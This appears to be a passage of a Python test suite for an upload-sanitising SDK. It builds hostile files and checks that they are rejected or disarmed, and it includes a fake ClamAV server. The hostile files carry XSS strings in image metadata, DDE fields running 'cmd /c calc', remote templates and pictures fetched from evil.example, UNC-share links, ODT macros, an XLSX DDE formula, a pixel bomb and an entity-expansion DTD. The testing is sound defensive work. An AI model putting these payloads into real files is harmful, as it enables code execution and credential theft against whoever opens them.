            lambda: jpeg() + b"Rar!\x1a\x07\x01\x00" + bytes(32),
            "unsafe_content",
        ),
        Upload(
            "ZIP inside a PNG text chunk",
            "photo.png",
            lambda: png(_chunk(b"prVt", zipped)),
            "unsafe_content",
        ),
        Upload(
            "text + ZIP claiming 0 entries",
            "notes.txt",
            lambda: b"notes\n" + empty_directory(zip_of([("a.txt", b"hidden", 0)])),
            "unsafe_content",
        ),
        Upload("DOCX + appended ZIP", "a.docx", lambda: docx() + zipped, "unsafe_content"),
        Upload(
            "DOCX with a member hidden from its directory",
            "a.docx",
            lambda: hide_member(
                zip_of([*docx_members()[:1], ("hidden.exe", PE), *docx_members()[1:]]),
                "hidden.exe",
            ),
            "unsafe_content",
        ),
        Upload(
            "DOCX whose directory names another member",
            "a.docx",
            lambda: rename_local(docx(), "[Content_Types].xml", "[Content_Types].xmm"),
            "unsafe_content",
        ),
        Upload(
            "DOCX whose end record claims 0 entries",
            "a.docx",
            lambda: empty_directory(docx()),
            "unsafe_content",
        ),
        # pictures: accepted only re-encoded, with text chunks and comments gone
        Upload(
            "PNG text chunk with img onerror",
            "photo.png",
            c(png(text_chunk(b"Comment", b"<img src=x onerror=alert(1)>"))),
            DISARMED,
            residue=(b"onerror", b"tEXt"),
        ),
        Upload(
            "PNG compressed text with javascript:",
            "photo.png",
            c(png(_ztxt(b"Comment", b"javascript:alert(1)"))),
            DISARMED,
            residue=(b"zTXt",),
        ),
        Upload(
            "PNG international text with img onerror",
            "photo.png",
            c(png(_itxt(b"Description", b"<img src=x onerror=alert(1)>"))),
            DISARMED,
            residue=(b"onerror", b"iTXt"),
        ),
        Upload(
            "PNG with text after its end",
            "photo.png",
            c(png() + b"javascript:alert(document.cookie)"),
            DISARMED,
            residue=(b"javascript:",),
        ),
        Upload(
            "JPEG comment with img onerror",
            "photo.jpg",
            c(jpeg(comment=b"<img src=x onerror=alert(1)>")),
            DISARMED,
            residue=(b"onerror",),
        ),
        Upload(
            "JPEG comment with javascript:",
            "photo.jpg",
            c(jpeg(comment=b"javascript:alert(1)")),
            DISARMED,
            residue=(b"javascript:",),
        ),
        Upload(
            "JPEG EXIF with img onerror",
            "photo.jpg",
            c(exif_jpeg(b"<img src=x onerror=alert(1)>")),
            DISARMED,
            residue=(b"onerror", b"Exif"),
        ),
        Upload(
            "JPEG with text after its end",
            "photo.jpg",
            c(jpeg() + b"javascript:alert(1)"),
            DISARMED,
            residue=(b"javascript:",),
        ),
        Upload("PNG pixel bomb", "photo.png", lambda: big_png(100_000, 100_000), "unsafe_content"),
        Upload(
            "PNG with its pixels cut short",
            "photo.png",
            lambda: big_png(64, 64),
            "content_mismatch",
        ),
        # Word: parts read at any size and in any case; fields that fetch or run
        Upload(
            "remote template in a .rels padded past 1 MiB",
            "a.docx",
            lambda: docx(
                (
                    "word/_rels/settings.xml.rels",
                    rels(("attachedTemplate", "https://evil.example/t.dotm", "External"))[:-16]
                    + b"<!--"
                    + b"x" * (MIB + 10)
                    + b"-->"
                    + b"</Relationships>",
                )
            ),
            "unsafe_content",
        ),
        Upload(
            "remote template in a part named .RELS",
            "a.docx",
            lambda: docx(
                (
                    "word/_rels/settings.xml.RELS",
                    rels(("attachedTemplate", "https://evil.example/t.dotm", "External")),
                )
            ),
            "unsafe_content",
        ),
        Upload(
            "template on the author's disk",
            "a.docx",
            lambda: docx(
                document_rels=rels(("attachedTemplate", "C:\\Templates\\x.dotm", "External"))
            ),
            "unsafe_content",
        ),
        Upload(
            "external picture, TargetMode in lower case",
            "a.docx",
            lambda: docx(document_rels=rels(("image", "http://evil.example/p.png", "external"))),
            "unsafe_content",
        ),
        Upload(
            "hyperlink to a UNC share",
            "a.docx",
            lambda: docx(document_rels=rels(("hyperlink", "file://evil/share/x", "External"))),
            "unsafe_content",
        ),
        Upload(
            "DDEAUTO field",
            "a.docx",
            lambda: docx(body=field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
            "unsafe_content",
        ),
        Upload(
            "DDE field in lower case",
            "a.docx",
            lambda: docx(body=field(' dde "cmd" "/c calc"')),
            "unsafe_content",
        ),
        Upload(
            "INCLUDEPICTURE from a UNC share",
            "a.docx",
            lambda: docx(body=field('INCLUDEPICTURE "\\\\evil\\share\\p.png" \\d')),
            "unsafe_content",
        ),
        Upload(
            "INCLUDEPICTURE split across runs",
            "a.docx",
            lambda: docx(body=field(" INCLUDEPIC", 'TURE "http://evil.example/p.png"')),
            "unsafe_content",
        ),
        Upload(
            "INCLUDETEXT from the web",
            "a.docx",
            lambda: docx(body=field('INCLUDETEXT "http://evil.example/t.docx"')),
            "unsafe_content",
        ),
        Upload(
            "DDE in a simple field",
            "a.docx",
            lambda: docx(body='<w:fldSimple w:instr=\'DDE "cmd" "/c calc"\'/>'),
            "unsafe_content",
        ),
        Upload(
            "field type built by a nested QUOTE",
            "a.docx",
            lambda: docx(
                body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                + field("QUOTE 68 68 69")[5:-6]
                + '<w:r><w:instrText> "cmd" "/c calc"</w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
            "unsafe_content",
        ),
        Upload(
            "DDEAUTO in a header part",
            "a.docx",
            lambda: docx(
                (
                    "word/header1.xml",
                    _xml(f'<w:hdr xmlns:w="{W}">{field("DDEAUTO cmd /c calc")}</w:hdr>'),
                )
            ),
            "unsafe_content",
        ),
        Upload(
            "altChunk import",
            "a.docx",
            lambda: docx(body='<w:altChunk r:id="rId9"/>'),
            "unsafe_content",
        ),
        Upload(
            "SVG picture with a script",
            "a.docx",
            lambda: docx(("word/media/image1.svg", SVG)),
            "unsafe_content",
        ),
        Upload(
            "DTD in the document part",
            "a.docx",
            lambda: docx(
                (
                    "word/footer1.xml",
                    _xml('<!DOCTYPE f [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><f>&b;</f>'),
                )
            ),
            "unsafe_content",
        ),
        Upload(
            "XLSX DDE formula",
            "a.xlsx",
            lambda: xlsx(
                (
                    "xl/worksheets/sheet2.xml",
                    _xml(
                        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                        "<sheetData><row><c><f>cmd|' /C calc'!A0</f></c></row></sheetData></worksheet>"
                    ),
                )
            ),
            "unsafe_content",
        ),
        # OpenDocument
        Upload(
            "ODT picture from a UNC share",
            "a.odt",
            lambda: odt(
                body='<draw:frame><draw:image xlink:href="\\\\evil\\share\\p.png"/></draw:frame>'
            ),
            "unsafe_content",
        ),
        Upload(
            "ODT picture from the web",
            "a.odt",
            lambda: odt(
                body='<draw:frame><draw:image xlink:href="http://evil.example/p.png"/></draw:frame>'
            ),
            "unsafe_content",
        ),
        Upload(
            "ODT dom:load script",
            "a.odt",
            lambda: odt(
                scripts="<office:scripts><office:event-listeners>"
                '<script:event-listener script:language="ooo:script" script:event-name="dom:load"'
                ' xlink:href="vnd.sun.star.script:Standard.Module1.Main"/>'
                "</office:event-listeners></office:scripts>"
            ),
            "unsafe_content",
        ),
        Upload(
            "ODT office:script",
            "a.odt",
            lambda: odt(
                scripts='<office:scripts><office:script script:language="javascript">'
                "alert(1)</office:script></office:scripts>"
            ),
            "unsafe_content",
        ),
        Upload(
            "ODT link that runs a macro",
            "a.odt",
            lambda: odt(
                body='<text:p><text:a xlink:href="vnd.sun.star.script:Standard.M.Main">x</text:a>'
                "</text:p>"
            ),
            "unsafe_content",
        ),
        Upload(
            "ODT DDE connection",
            "a.odt",
            lambda: odt(
                body='<text:dde-connection-decls><text:dde-connection-decl text:name="x"'
                ' office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
                "</text:dde-connection-decls>"
            ),
            "unsafe_content",
        ),
        # the scanner
        Upload("EICAR test file", "eicar.txt", c(EICAR), "infected"),
    ]
    return uploads


HOSTILE: list[Upload] = _hostile()


def picture(mode: str, size: tuple[int, int], kind: str = "PNG", **options: object) -> bytes:
    """A picture drawn by Pillow: a gradient, so re-encoding has pixels worth comparing."""
    from PIL import Image

    image = Image.linear_gradient("L").resize(size).convert(mode)
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def turned_jpeg() -> bytes:
    """A 40x20 phone photo whose EXIF says "turn 90 degrees clockwise to view"."""
    from PIL import Image

    exif = Image.Exif()
    exif[0x0112] = 6
    return picture("RGB", (40, 20), "JPEG", exif=exif.tobytes())


DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

#: Well-formed files: (name, bytes, the content type the SDK must record).
BENIGN: list[tuple[str, bytes, str]] = [
    ("Letter from school.pdf", pdf(), "application/pdf"),
    ("Letter with text.pdf", pdf(text=b"Dear parent, Sam was absent."), "application/pdf"),
    (
        "Letter with a contents link.pdf",
        pdf(
            text=b"See page 1",
            page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D[3 0 R/Fit]>>>>]",
        ),
        "application/pdf",
    ),
    ("photo of letter.png", png(), "image/png"),
    ("greyscale scan.png", picture("L", (64, 48)), "image/png"),
    ("scan with transparency.png", picture("RGBA", (30, 30)), "image/png"),
    ("palette scan.png", picture("P", (17, 9), transparency=0), "image/png"),
    ("photo.jpg", jpeg(), "image/jpeg"),
    ("PHOTO.JPEG", jpeg(comment=b"Taken on a phone"), "image/jpeg"),
    ("phone photo.jpg", picture("RGB", (120, 80), "JPEG", quality=85), "image/jpeg"),
    ("turned phone photo.jpg", turned_jpeg(), "image/jpeg"),
    ("Assessment.docx", docx(), DOCX_TYPE),
    ("Report with chart.docx", docx_with_chart(), DOCX_TYPE),
    (
        "Report with page numbers.docx",
        docx(body=field("PAGE") + field(' HYPERLINK "https://www.gov.uk/" ')),
        DOCX_TYPE,
    ),
    ("Budget.xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("Minutes.odt", odt(), "application/vnd.oasis.opendocument.text"),
    (
        "Minutes with a link.odt",
        odt(
            ("Pictures/logo.png", png()),
            body='<text:p><text:a xlink:href="https://www.gov.uk/">GOV.UK</text:a></text:p>'
            '<draw:frame><draw:image xlink:href="Pictures/logo.png"/></draw:frame>'
            "<office:scripts/>",
        ),
        "application/vnd.oasis.opendocument.text",
    ),
    (
        "notes.txt",
        "\ufeffMeeting notes: £50 owed, 3 < 4 😊\n".encode(),
        "text/plain; charset=utf-8",
    ),
]


# --- a fake clamd ------------------------------------------------------------------------------


def _receive(connection: socketserver.BaseRequestHandler, count: int) -> bytes:
    data = b""
    while len(data) < count:
        piece = connection.request.recv(count - len(data))
        if not piece:
            raise ConnectionError("client hung up")
        data += piece
    return data


class _Handler(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        fake: FakeClamd = self.server.fake  # type: ignore[attr-defined]
        command = b""
        while not command.endswith(b"\0"):
            command += _receive(self, 1)
        if command == b"zPING\0":
            self.request.sendall(b"PONG\0")
            return
        if fake.mode == "hang":
            fake.release.wait(10)
            return
        if fake.mode == "hang-up":
            return
        received = bytearray()
        while size := struct.unpack(">I", _receive(self, 4))[0]:
            received += _receive(self, size)
            if len(received) > fake.stream_max:
                self.request.sendall(b"INSTREAM size limit exceeded. ERROR\0")
                return
        fake.received.append(bytes(received))
        if fake.mode == "error":
            reply = b"stream: Can't allocate memory ERROR"
        elif EICAR in received:
            reply = b"stream: Eicar-Test-Signature FOUND"
        else:
            reply = b"stream: OK"
        self.request.sendall(reply + b"\0")


class _TCPServer(socketserver.ThreadingTCPServer):
    fake: FakeClamd
    daemon_threads = True
    allow_reuse_address = True


class _UnixServer(socketserver.ThreadingUnixStreamServer):
    fake: FakeClamd
    daemon_threads = True


class FakeClamd:
    """A local clamd stand-in. ``mode``: ``ok`` (FOUND for EICAR), ``error``, ``hang``, ``hang-up``."""

    def __init__(
        self, mode: str = "ok", *, unix_socket: Path | None = None, stream_max: int = 25 * MIB
    ) -> None:
        self.mode = mode
        self.stream_max = stream_max
        self.received: list[bytes] = []
        self.release = threading.Event()
        self.server: _TCPServer | _UnixServer = (
            _TCPServer(("127.0.0.1", 0), _Handler)
            if unix_socket is None
            else _UnixServer(str(unix_socket), _Handler)
        )
        self.server.fake = self
        self._thread = threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True)

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])  # type: ignore[index]

    def __enter__(self) -> FakeClamd:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        self.release.set()
        self.server.shutdown()
        self.server.server_close()
        self._thread.join(5)


# --- re-parsing what was stored ----------------------------------------------------------------

#: PNG chunks a re-encoded picture may hold: pixels, palette, transparency, and nothing said.
PNG_PIXEL_CHUNKS = frozenset({b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"})
#: PDF keys and action types that must be gone from a disarmed PDF.
PDF_ACTIVE_KEYS = ("/AA", "/OpenAction", "/JS", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA")
PDF_PLAYING = {"/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound", "/3D"}


def png_chunks(data: bytes) -> list[bytes]:
    """The chunk types of a PNG, in order; raises if anything follows IEND."""
    kinds, at = [], 8
    while at < len(data):
        length = struct.unpack_from(">I", data, at)[0]
        kinds.append(data[at + 4 : at + 8])
        at += 12 + length
        if kinds[-1] == b"IEND":
            assert at == len(data), "data after IEND"
    return kinds


def jpeg_markers(data: bytes) -> list[int]:
    """The segment markers of a JPEG up to its scan; raises if anything follows EOI."""
    markers, at = [], 2
    while data[at] == 0xFF and data[at + 1] != 0xDA:
        markers.append(data[at + 1])
        at += 2 + struct.unpack_from(">H", data, at + 2)[0]
    assert data.endswith(b"\xff\xd9"), "data after EOI"
    return markers


def pdf_leftovers(data: bytes) -> list[str]:
    """What active content a PDF still holds, found by re-parsing it with pikepdf."""
    import pikepdf

    found: list[str] = []
    with pikepdf.open(io.BytesIO(data)) as document:
        for obj in document.objects:
            if not isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                continue
            found += [key for key in PDF_ACTIVE_KEYS if key in obj]
            action = obj.get("/A")
            if isinstance(action, pikepdf.Dictionary) and action.get("/S") != pikepdf.Name.GoTo:
                found.append(f"/A {action.get('/S')}")
            if str(obj.get("/Subtype", "")) in PDF_PLAYING:
                found.append(str(obj.get("/Subtype")))
        for page in document.pages:
            for annotation in page.obj.get("/Annots", pikepdf.Array()):
                if "/AA" in annotation:
                    found.append("annotation /AA")
                action = annotation.get("/A")
                if isinstance(action, pikepdf.Dictionary) and action.get("/S") != pikepdf.Name.GoTo:
                    found.append(f"annotation /A {action.get('/S')}")
                if str(annotation.get("/Subtype", "")) in PDF_PLAYING:
                    found.append(str(annotation.get("/Subtype")))
    return found


def pdf_streams(data: bytes) -> list[bytes]:
    """Every stream of a PDF, decoded where pikepdf can decode it."""
    import pikepdf

    streams: list[bytes] = []
    with pikepdf.open(io.BytesIO(data)) as document:
        for obj in document.objects:
            if isinstance(obj, pikepdf.Stream):
                try:
                    streams.append(obj.read_bytes())
                except pikepdf.PdfError:
                    streams.append(obj.read_raw_bytes())
    return streams


def assert_disarmed(filename: str, stored: bytes, residue: tuple[bytes, ...]) -> None:
    """Re-parse ``stored`` and fail if any active content or ``residue`` is left in it."""
    kind = filename.rsplit(".", 1)[-1].lower()
    if kind == "pdf":
        assert pdf_leftovers(stored) == []
        for piece in residue:
            assert piece not in stored, piece
            assert not any(piece in stream for stream in pdf_streams(stored)), piece
        return
    for piece in residue:
        assert piece not in stored, piece
    if kind == "png":
        assert set(png_chunks(stored)) <= PNG_PIXEL_CHUNKS
    elif kind in ("jpg", "jpeg"):
        # Only JFIF (APP0), Adobe's colour marker (APP14), tables and the frame header.
        assert set(jpeg_markers(stored)) <= {0xE0, 0xEE, 0xDB, 0xC4, 0xC0, 0xC2, 0xDD}
